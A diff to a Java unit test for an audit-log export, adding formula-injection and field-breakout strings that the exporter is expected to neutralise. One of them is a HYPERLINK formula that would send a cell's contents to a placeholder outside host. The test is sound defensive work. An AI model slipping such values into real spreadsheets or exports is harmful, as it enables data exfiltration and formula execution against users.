@@ -141,6 +141,8 @@ class AuditExportTest {
     void noTextBecomesAFormulaOrAnotherLine() {
         for (String text : List.of("=1+1", "+1", "-1", "@SUM(1)", " =1", "\t=1", "\r=1", "\uff1d1", "a;=1", "a; =1",
                 "a;\uff0b1",
+                "a;\"=1", "a;\"\"=1", "a; \"=1", "a;\" =1", "a\t\"=1", "a\n\"=1", "a\r\n\"+1", "\"=1", "\"@SUM(1)",
+                "see A;\"=HYPERLINK(\"http://e/\"&A1);b", "a;\u00a0=1", "a,b\n\"=1",
                 "a\n=1", "a\u0085b", "a\u009b31mb")) {
             JsonObject line = new JsonObject();
             line.addProperty("seq", 7);
